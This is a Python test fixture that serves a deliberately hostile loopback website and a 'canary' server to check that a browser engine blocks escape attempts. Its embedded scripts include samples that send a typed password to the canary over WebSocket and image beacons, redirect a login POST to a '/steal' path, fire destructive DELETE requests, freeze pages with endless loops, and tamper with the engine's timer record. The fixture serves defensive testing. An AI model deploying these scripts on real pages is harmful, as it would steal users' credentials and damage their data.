"""A hostile site on loopback for the browser engine's containment tests, and a canary "other origin".

The site tries every way out it can: subresources, links and a login that redirect to the canary,
speculation rules, preconnect, iframes, popups, pings and beacons, a SharedWorker and a service worker
that fetch the canary, WebSockets, writes and a destructive-looking GET from its own scripts, scripts
that send the typed password; and pages that never yield, flood dialogs or refresh themselves forever.
`Hostile.requests` records what the site received (method, path, headers); `Canary.connections` counts
every TCP connection the canary accepted and `Canary.received` every byte it read.
"""

from __future__ import annotations

import socket
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler

from bughunt.explorer.browser import REFRESH_S
from tests.support.loopback import serving

PASSWORD = "pw-Secr3t-value"
HEADER_VALUE = "hdr-secret-value"
COOKIE_VALUE = "cookie-secret-value"

_SUBRESOURCES = """<!doctype html><html><head><title>Sub</title>
<link rel="preconnect" href="CANARY"><link rel="dns-prefetch" href="CANARY">
<link rel="prefetch" href="CANARY/prefetch"><link rel="stylesheet" href="/redirect?kind=css">
<script type="speculationrules">
{"prefetch": [{"source": "list", "urls": ["CANARY/spec-prefetch", "/redirect?kind=spec"]}],
 "prerender": [{"source": "list", "urls": ["CANARY/spec-prerender", "/ok/1"]}]}
</script>
<script src="/redirect?kind=js"></script>
</head><body><h1>Subresources</h1>
<img src="/redirect?kind=img"><img src="CANARY/direct-img">
<iframe src="/redirect?kind=frame"></iframe><iframe src="CANARY/direct-frame"></iframe>
<a href="/ok/1" ping="CANARY/ping">ok</a>
<a href="/away">away</a>
<button id="del" onclick="fetch('/items/3/del')">Archive</button>
<button id="pop" onclick="window.open('CANARY/popup')">Open</button>
<a href="CANARY/blank" target="_blank">new tab</a>
<script>
fetch('/redirect?kind=fetch').catch(() => {});
fetch('CANARY/direct-fetch').catch(() => {});
fetch('/api/thing', {method: 'DELETE'}).catch(() => {});
fetch('/items/4/del').catch(() => {});
navigator.sendBeacon('/beacon', 'now');
addEventListener('pagehide', () => navigator.sendBeacon('/beacon', 'pagehide'));
addEventListener('visibilitychange', () => navigator.sendBeacon('/beacon', 'hidden'));
try { new SharedWorker('/worker.js'); } catch (e) {}
try { navigator.serviceWorker.register('/service.js'); } catch (e) {}
try { const w = new WebSocket('ws://SITEHOST/ws'); w.onopen = () => w.send('delete all'); } catch (e) {}
try { new WebSocket('ws://CANARYHOST/ws'); } catch (e) {}
window.open('CANARY/open');
const a = document.createElement('a'); a.href = 'CANARY/ping2'; a.ping = 'CANARY/ping3';
</script></body></html>"""

_WORKER = "fetch('CANARY/worker-fetch').catch(() => {}); fetch('/redirect?kind=worker').catch(() => {});"

_LOGIN = """<!doctype html><html><head><title>Log in</title></head><body><h1>Log in</h1>
<form method="post" action="ACTION"><input name="username"><input type="password" name="password">
<button type="submit">Log in</button></form>
<script>
fetch('/api/session', {method: 'DELETE'}).catch(() => {});
const pw = document.querySelector('input[type=password]');
pw.addEventListener('input', () => {
  try { const w = new WebSocket('ws://SITEHOST/ws'); w.onopen = () => w.send(pw.value); } catch (e) {}
  try { new WebSocket('ws://CANARYHOST/ws?p=' + pw.value); } catch (e) {}
  new Image().src = '/leak?p=' + encodeURIComponent(pw.value);
  fetch('/leak', {method: 'POST', body: pw.value}).catch(() => {});
});
</script></body></html>"""

PAGES = {
    "/": """<!doctype html><title>Home</title><h1>Home</h1><ul>
<li><a href="/sub">sub</a></li><li><a href="/spin-before">a</a></li><li><a href="/spin-after">b</a></li>
<li><a href="/alerts">c</a></li><li><a href="/refresh">d</a></li><li><a href="/huge">e</a></li>
<li><a href="/away">f</a></li><li><a href="/ok/1">ok</a></li></ul>""",
    "/ok/1": '<!doctype html><title>One</title><h1>One</h1><a href="/ok/2">two</a>',
    "/ok/2": '<!doctype html><title>Two</title><h1>Two</h1><a href="/">home</a>',
    "/spin-before": "<!doctype html><title>Spin</title><script>for(;;){}</script><h1>never</h1>",
    "/spin-after": "<!doctype html><title>Spin</title><h1>Spin</h1><script>setTimeout(() => { for(;;){} }, 300)</script>",
    # the timer is set through a fresh frame's `setTimeout`, one the page's own window never wrapped
    "/spin-in-frame": "<!doctype html><title>Spin</title><h1>Spin</h1><script>"
    "const f = document.createElement('iframe'); document.body.appendChild(f);"
    "f.contentWindow.setTimeout(() => { for(;;){} }, 300)</script>",
    "/late": "<!doctype html><title>Late</title><h1>Soon</h1><script>"
    "setTimeout(() => { document.querySelector('h1').textContent = 'Later'; }, 200)</script>",
    # lies to the engine's timer record: a timer overdue for ever, and a `setTimeout` of its own
    "/lies": "<!doctype html><title>Lies</title><h1>Lies</h1><script>"
    "const n = Object.getOwnPropertyNames(window).find(k => k.startsWith('__bughunt_'));"
    "if (n) { window[n].put('x', 0); } window.setTimeout = () => 0;</script>",
    # an answer its script throws on without reading the body (whose end never comes), and one it reads
    "/unread": "<!doctype html><title>Unread</title><h1>Unread</h1><script>"
    "fetch('/api/unended').then(r => { if (!r.ok) throw new Error('down'); return r.text(); })"
    ".then(t => { document.querySelector('h1').textContent = t; })</script>",
    "/fetched": "<!doctype html><title>Fetched</title><h1>Waiting</h1><script>"
    "fetch('/api/ok').then(r => r.text()).then(t => { document.querySelector('h1').textContent = t; })</script>",
    "/alerts": "<!doctype html><title>Alerts</title><h1>Alerts</h1><script>for(;;) alert('x')</script>",
    "/alerts-3000": "<!doctype html><title>Alerts</title><h1>Alerts</h1><script>for (let i = 0; i < 3000; i++) alert(i)</script>",
    "/refresh": '<!doctype html><title>Refresh</title><meta http-equiv="refresh" content="0"><h1>Again</h1>',
    # a saved form's "Redirecting…" answer, and a refresh only a browser without scripts follows
    "/moved": '<!doctype html><title>Moved</title><meta content="0; url=/arrived" http-equiv="Refresh"><h1>Redirecting</h1>',
    "/moved-slow": '<!doctype html><title>Moved</title><meta http-equiv="refresh" content="0; url=/arrived-slow">'
    "<h1>Redirecting</h1>",
    "/moved-late": '<!doctype html><title>Moved</title><meta http-equiv="refresh" content="0; url=/arrived-late">'
    "<h1>Redirecting</h1>",
    "/noscript-refresh": '<!doctype html><title>Stay</title><noscript><meta http-equiv="refresh" content="0; url=/ok/1">'
    "</noscript><h1>Stay</h1>",
    "/huge": "<!doctype html><title>Huge</title><h1>Huge</h1><div id=h></div><script>"
    "const h = document.getElementById('h'); for (let i = 0; i < 200000; i++) h.appendChild(document.createElement('i'));"
    "</script>",
}


@dataclass
class Seen:
    method: str
    path: str
    headers: dict[str, str]
    body: bytes = b""


@dataclass
class Canary:
    connections: int = 0
    received: bytes = b""
    lock: threading.Lock = field(default_factory=threading.Lock)


@dataclass
class HostileSite:
    url: str
    canary_url: str
    canary: Canary
    requests: list[Seen]

    def writes(self) -> list[Seen]:
        return [r for r in self.requests if r.method not in ("GET", "HEAD", "OPTIONS")]


@contextmanager
def canary_server() -> Iterator[tuple[str, Canary]]:
    """Counts connections and bytes; answers nothing (a real server's answer is not needed to see a leak)."""
    canary = Canary()
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(64)
    server.settimeout(0.1)
    stopping = threading.Event()

    def serve() -> None:
        while not stopping.is_set():
            try:
                conn, _ = server.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            with canary.lock:
                canary.connections += 1
            conn.settimeout(0.5)
            try:
                data = conn.recv(65536)
                with canary.lock:
                    canary.received += data
            except OSError:
                pass
            conn.close()

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.getsockname()[1]}", canary
    finally:
        stopping.set()
        thread.join(2)
        server.close()


@contextmanager
def hostile_site(login_redirect_off: bool = False) -> Iterator[HostileSite]:
    """The site and its canary. `login_redirect_off`: the login POST is answered `307` to the canary."""
    requests: list[Seen] = []
    with canary_server() as (canary_url, canary):
        canary_host = canary_url.removeprefix("http://")

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def _record(self, body: bytes = b"") -> None:
                requests.append(
                    Seen(self.command, self.path, {k.lower(): v for k, v in self.headers.items()}, body)
                )

            def _fill(self, text: str) -> str:
                site_host = f"127.0.0.1:{self.server.server_address[1]}"
                return (
                    text.replace("CANARYHOST", canary_host)
                    .replace("CANARY", canary_url)
                    .replace("SITEHOST", site_host)
                )

            def _send(
                self, status: int, body: str = "", ctype: str = "text/html; charset=utf-8", **extra: str
            ) -> None:
                data = body.encode()
                self.send_response(status)
                self.send_header("Content-Type", ctype)
                self.send_header("Content-Length", str(len(data)))
                for name, value in extra.items():
                    self.send_header(name.replace("_", "-"), value)
                self.end_headers()
                self.wfile.write(data)

            def do_GET(self) -> None:  # noqa: N802
                self._record()
                path = self.path.split("?")[0]
                if path == "/robots.txt":
                    self._send(404, "", "text/plain")
                elif path == "/redirect" or path == "/away":
                    self._send(302, "", Location=f"{canary_url}/redirected{self.path}")
                elif path == "/worker.js" or path == "/service.js":
                    self._send(200, self._fill(_WORKER), "application/javascript")
                elif path == "/sub":
                    self._send(200, self._fill(_SUBRESOURCES))
                elif path == "/login":
                    self._send(200, self._fill(_LOGIN.replace("ACTION", "/do-login")))
                elif path == "/api/unended":
                    # an answer whose body does not end for 3 s (bounded: the test's server must stop)
                    self.send_response(500)
                    self.send_header("Content-Type", "application/json")
                    self.send_header("Content-Length", "1000")
                    self.end_headers()
                    self.wfile.write(b'{"error": ')
                    self.wfile.flush()
                    time.sleep(3)
                elif path == "/refresh-slow":
                    # refreshes itself for ever, each answer late: every read lands between two loads
                    time.sleep(0.3)
                    self._send(200, PAGES["/refresh"])
                elif path == "/arrived":
                    # answered late: the page that refreshed to here is still shown, readable, meanwhile
                    time.sleep(0.4)
                    self._send(200, "<!doctype html><title>Arrived</title><h1>Arrived</h1>")
                elif path == "/arrived-slow":
                    # answered after the refresh's start window (`browser.REFRESH_S`): a slow server
                    time.sleep(REFRESH_S + 0.6)
                    self._send(200, "<!doctype html><title>Arrived</title><h1>Arrived late</h1>")
                elif path == "/arrived-late":
                    # answered after any step's deadline in these tests (bounded: the server must stop)
                    time.sleep(5)
                    self._send(200, "<!doctype html><title>Arrived</title><h1>Arrived too late</h1>")
                elif path == "/api/ok":
                    self._send(200, "Fetched", "text/plain")
                elif path in PAGES:
                    self._send(200, PAGES[path])
                else:
                    self._send(404, "<!doctype html><title>Not found</title><h1>Not found</h1>")

            def do_POST(self) -> None:  # noqa: N802
                size = int(self.headers.get("content-length") or 0)
                body = self.rfile.read(size) if size else b""
                self._record(body)
                if self.path == "/do-login":
                    if login_redirect_off:
                        self._send(307, "", Location=f"{canary_url}/steal")
                    else:
                        self._send(303, "", Location="/", Set_Cookie="sid=in; Path=/")
                else:
                    self._send(204)

            do_DELETE = do_PUT = do_PATCH = do_POST  # noqa: N815

            def log_message(self, *args: object) -> None:
                pass

        with serving(Handler) as url:
            yield HostileSite(url, canary_url, canary, requests)
